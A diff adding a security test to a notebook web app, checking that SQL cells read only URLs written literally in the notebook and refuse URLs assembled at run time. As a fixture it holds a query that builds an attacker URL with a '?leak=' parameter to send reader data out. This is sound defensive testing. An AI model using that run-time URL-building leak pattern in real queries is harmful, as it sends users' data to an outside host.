@@ -146,3 +146,37 @@ describe('4: notebook code and SQL do not act with the site’s credentials (net
     expect(seen.find((line) => line.includes('?page'))).toContain(SECRET);
   });
 });
+
+describe('4: SQL reads only the URLs written in the notebook (network allowed)', () => {
+  it('reads a URL written in a SQL cell, and refuses one the SQL builds at run time without a request', async () => {
+    const o = await openAttacked(browser, new URL(site.url).origin, attacker);
+    opened.push(o);
+    attacker.serve('/declared.csv', 'a,b\n1,2\n3,4\n', 'text/csv');
+    const source = [
+      '# Remote reads',
+      '',
+      '```sql declared',
+      `SELECT count(*)::INTEGER AS n FROM read_csv('${attacker.origin}/declared.csv')`,
+      '```',
+      '',
+      // The literal prefix is in the text; the URL read is not: a leak channel (`?leak=` + data) must stay shut.
+      '```sql built',
+      `SELECT content FROM read_text('${attacker.origin}/built' || '.txt?leak=' || 'reader-data')`,
+      '```',
+      '',
+      '```js',
+      '`declared rows: ${declared.get(0).n}`',
+      '```',
+      '',
+    ].join('\n');
+    await o.page.goto(`${site.url}#/s/${encodeShare({ source, inputs: {} })}`);
+    await o.page.getByRole('button', { name: 'Run', exact: true }).click();
+    await o.page.getByText('declared rows: 2').waitFor({ timeout: 120_000 });
+    const refusal = o.page.locator('.cell-error').filter({ hasText: 'written in the notebook' });
+    await refusal.first().waitFor({ timeout: 60_000 });
+    // The refusal names the URL it refused.
+    expect(await refusal.first().innerText()).toContain(`${attacker.origin}/built.txt?leak=reader-data`);
+    expect(attacker.received.some((line) => line.includes('/declared.csv'))).toBe(true);
+    expect(attacker.received.filter((line) => line.includes('/built')), 'the built URL reached the attacker').toEqual([]);
+  });
+});
